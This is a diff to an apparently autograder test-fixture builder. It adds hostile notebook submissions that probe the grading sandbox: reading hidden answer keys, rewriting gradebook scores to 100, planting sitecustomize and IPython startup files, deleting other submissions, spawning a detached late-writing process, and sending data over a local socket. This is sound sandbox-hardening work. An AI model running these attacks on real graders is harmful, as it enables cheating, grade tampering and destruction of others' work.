@@ -189,11 +189,118 @@ except MemoryError:
     r["invalid_json"] = lambda nb: nb
     r["old_format"] = lambda nb: nb
     r["empty_file"] = lambda nb: nb
+    sandbox_attacks(r, owners)
     board = lambda nb: answers_cell(nb, "graded_answers = graded_board.answers")
     r["choices_missing"] = board
     r["choices_corrupt"] = board
     r["choices_unknown_items"] = board
     return r
+
+
+# Attacks on the grading machine rather than on the scoring. Each answers exercise 1 from what
+# it finds: if the sandbox let it through, it would earn what a full submission earns; where it
+# finds nothing, it hands in no answers and earns what a blank submission earns.
+LISTEN_PORT = 9          # the test sets this to a port it listens on before building the recipes
+LATE_WRITE = "MLROLES_HOSTILE_LATE_WRITE"
+FIND_COURSE = """import pathlib
+import mlroles
+places = list(pathlib.Path.cwd().resolve().parents) + [pathlib.Path(mlroles.__file__).resolve().parents[1]]
+"""
+OWNERS_FROM = """
+def owners_from(text):
+    import csv, io
+    return {r["item_id"]: r["value"] for r in csv.DictReader(io.StringIO(text))
+            if r.get("dataset") == "responsibilities" and r.get("field") == "owner"}
+"""
+LATE_PROCESS = """import pathlib, sys, time
+time.sleep(15)
+for folder in sys.argv[1:]:
+    try:
+        (pathlib.Path(folder) / "%s").write_text("written after the notebook ended")
+    except OSError:
+        pass
+""" % LATE_WRITE
+
+
+def sandbox_attacks(r, owners):
+    def attack(code):
+        return lambda nb: answers_cell(nb, code + "\ngraded_answers = found\n")
+
+    r["read_keys_file"] = attack(FIND_COURSE + OWNERS_FROM + """found = {}
+for place in places:
+    try:
+        found = owners_from(open(place / "solutions" / "graded_keys.csv").read())
+        break
+    except OSError:
+        pass""")
+    r["read_own_notebook"] = attack(r"""import glob, re
+found = {}
+for path in glob.glob("*.ipynb"):
+    text = open(path).read()
+    hidden = text[text.find("BEGIN HIDDEN TESTS"):]
+    found.update(re.findall(r'\\"(R\d\d)\\": \\"(data_scientist|ml_engineer|shared)\\"', hidden))""")
+    r["write_gradebook"] = attack(FIND_COURSE + """import sqlite3
+found = {}
+for place in places:
+    if (place / "gradebook.db").exists():
+        try:
+            with sqlite3.connect(place / "gradebook.db") as db:
+                db.execute("UPDATE grade SET manual_score = 100")
+        except sqlite3.Error:
+            pass""")
+    r["append_to_package"] = attack(r"""import mlroles, pathlib
+found = {}
+for module in pathlib.Path(mlroles.__file__).parent.glob("*.py"):
+    try:
+        with open(module, "a") as f:
+            f.write("\nFULL_MARKS = True\n")
+    except OSError:
+        pass""")
+    r["sitecustomize"] = attack(r"""import site, sysconfig
+found = {}
+for folder in [sysconfig.get_paths()["purelib"], site.getusersitepackages()] + site.getsitepackages():
+    try:
+        with open(folder + "/sitecustomize.py", "w") as f:
+            f.write("import builtins\nbuiltins.MLROLES_TAMPERED = True\n")
+    except OSError:
+        pass""")
+    r["ipython_startup"] = attack(r"""import os, pathlib
+from IPython.paths import get_ipython_dir
+found = {}
+for folder in {get_ipython_dir(), os.path.expanduser("~/.ipython"), os.environ.get("IPYTHONDIR", "")} - {""}:
+    try:
+        startup = pathlib.Path(folder) / "profile_default" / "startup"
+        startup.mkdir(parents=True, exist_ok=True)
+        (startup / "00-mlroles-hostile.py").write_text("MLROLES_TAMPERED = True\n")
+    except OSError:
+        pass""")
+    r["delete_other_submission"] = attack(FIND_COURSE + """import shutil
+found = {}
+for place in places:
+    for other in list((place / "submitted").glob("*")) + list((place / "autograded").glob("*")):
+        if other.name != "delete_other_submission":
+            shutil.rmtree(other, ignore_errors=True)""")
+    r["detached_process"] = attack(FIND_COURSE + f"""import subprocess, sys
+subprocess.Popen([sys.executable, "-c", {LATE_PROCESS!r}, "/tmp", *map(str, places)], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+found = {{}}""")
+    r["print_keys_rot13"] = attack(FIND_COURSE + """import codecs
+found = {}
+for place in places:
+    try:
+        print(codecs.encode(open(place / "solutions" / "graded_keys.csv").read(), "rot13"))
+    except OSError:
+        pass""")
+    r["open_socket"] = lambda nb: answers_cell(nb, f"""import socket
+found = {{}}
+try:
+    with socket.create_connection(("127.0.0.1", {LISTEN_PORT}), timeout=2) as s:
+        s.sendall(b"the keys would go here")
+except OSError:
+    pass
+graded_answers = found
+""")
+    r["zz_full_after_attacks"] = lambda nb: answers_cell(nb, f"graded_answers = {owners!r}")
 
 
 def write(case, nb, folder, notebook_name, keys):
